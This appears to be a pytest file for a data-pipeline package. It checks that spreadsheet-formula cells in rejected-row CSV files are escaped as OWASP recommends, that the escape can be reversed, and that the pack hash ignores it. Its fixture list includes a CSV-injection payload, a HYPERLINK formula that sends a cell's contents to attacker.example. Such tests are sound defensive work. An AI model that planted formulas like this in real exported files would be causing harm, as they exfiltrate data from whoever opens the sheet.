"""rejects/*.csv is opened in Excel (issue 12, item 2): a cell a spreadsheet would run as a formula is escaped as
OWASP recommends, exactly (the value as read comes back by dropping one leading '), the manifest says so, the
pack's identity does not change with the escape, and every header names one column."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd

from retropack.load import load_dataset
from retropack.publish.manifest import manifest, pack_hash
from retropack.publish.rejects import rows_as_read, write_rejects
from tests.programs import healthy

HOSTILE = ['=HYPERLINK("http://attacker.example/?x="&A1,"詳細")', "+81-3-1234-5678", "-5", "@SUM(A1:A9)",
           "\tcmd", "\r=1+1", "'quoted", "'=already escaped?", "普通の会社", "ACME = 1"]


def write_program(folder: Path) -> Path:
    """Leads whose company and score cells hold what a hostile or careless export can hold (Parquet keeps a
    leading tab or carriage return exactly); every row is rejected (its created_at cannot be read), so each
    reaches rejects/leads.csv as written."""
    folder.mkdir(parents=True, exist_ok=True)
    pd.DataFrame({"lead_id": [f"L{i}" for i in range(len(HOSTILE))], "created_at": "not a date",
                  "company": HOSTILE, "score": "-5"}).to_parquet(folder / "leads.parquet", index=False)
    pd.DataFrame({"send_id": ["S1"], "sent_at": ["2026-10-01"], "delivered": [1], "unique_opens": [0],
                  "unique_clicks": [0], "unsubscribes": [0]}).to_csv(folder / "email_sends.csv", index=False)
    pd.DataFrame({"deal_id": ["D1", "D2", "D3"], "created_at": ["2026-10-05", "2026-10-05", "2026-10-05"],
                  "amount": ["1e308", "1000000000000001", "1000000000000000"], "stage": "won",
                  "closed_at": ["2026-10-09", "2026-10-09", "2026-10-09"]}).to_csv(folder / "deals.csv", index=False)
    pd.DataFrame({"month": ["2026-10"], "lead_id": ["L404"], "verdict": ["bad"],
                  "reason": ["-予算なし"]}).to_csv(folder / "mql_feedback.csv", index=False)
    return folder


def read_back(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def test_formula_cells_are_escaped_and_the_value_as_read_comes_back(tmp_path: Path) -> None:
    dataset = load_dataset(write_program(tmp_path / "data"), max_reject_share=1.0)
    write_rejects(dataset, tmp_path / "rejects")
    header, *rows = read_back(tmp_path / "rejects" / "leads.csv")
    companies = [row[header.index("company")] for row in rows]
    assert companies == ["'" + cell if cell[0] in "=+-@\t\r'" else cell for cell in HOSTILE]
    assert [cell[1:] if cell.startswith("'") else cell for cell in companies] == HOSTILE  # exactly reversible
    assert {row[header.index("score")] for row in rows} == {"'-5"}  # a negative number too (OWASP; README)
    assert all(row[header.index("row")].isdigit() for row in rows)  # our own row numbers are numbers


def test_a_tables_own_reason_column_is_kept_beside_the_reject_reason(tmp_path: Path) -> None:
    dataset = load_dataset(write_program(tmp_path / "data"), max_reject_share=1.0)
    write_rejects(dataset, tmp_path / "rejects")
    header, row = read_back(tmp_path / "rejects" / "mql_feedback.csv")
    assert header == ["row", "month", "lead_id", "verdict", "reason", "reject_reason"]  # each header names one column
    assert row[header.index("reason")] == "'-予算なし"  # sales' words, escaped like any cell
    assert row[header.index("reject_reason")] == "unknown_lead: lead_id 'L404' is not in leads."
    assert read_back(tmp_path / "rejects" / "leads.csv")[0][-1] == "reason"  # the contract's name where it is free


def test_an_amount_above_max_amount_is_a_rejected_row_of_its_own(tmp_path: Path) -> None:
    dataset = load_dataset(write_program(tmp_path / "data"), max_reject_share=1.0, max_amount=1e15)
    quality = dataset.quality["deals"]
    assert dict(quality.reasons) == {"amount_too_large": 2}
    assert dataset.tables["deals"]["deal_id"].tolist() == ["D3"]  # exactly the bound is an amount
    assert quality.rejects["reason"].iloc[0] == (
        "amount_too_large: column 'amount' holds '1e308', which is more than data_quality.max_amount "
        "(1,000,000,000,000,000); check its digits, or raise data_quality.max_amount if such amounts are real.")


def test_the_manifest_says_how_and_the_pack_identity_ignores_the_escape(tmp_path: Path) -> None:
    from datetime import datetime

    from retropack.months import Month

    config, _ = healthy().load(tmp_path / "client")
    dataset = load_dataset(write_program(tmp_path / "data"), max_reject_share=1.0)
    folder = tmp_path / "pack"
    write_rejects(dataset, folder / "rejects")
    at, month = datetime(2026, 11, 2, 9), Month(2026, 10)
    document = manifest(config.settings, dataset, month, "run", at, folder, False)
    assert document["rejects_csv"]["escape"] == "'"
    assert document["rejects_csv"]["escaped_when_starting_with"] == ["=", "+", "-", "@", "\t", "\r", "'"]
    json.dumps(document)
    unescaped = tmp_path / "unescaped"
    for name, pieces in rows_as_read(dataset).items():  # the files as an earlier version wrote them
        (unescaped / name).parent.mkdir(parents=True, exist_ok=True)
        (unescaped / name).write_bytes(b"".join(pieces))
    assert document["pack_hash"] == pack_hash(unescaped, "fixture", month, "run", at)
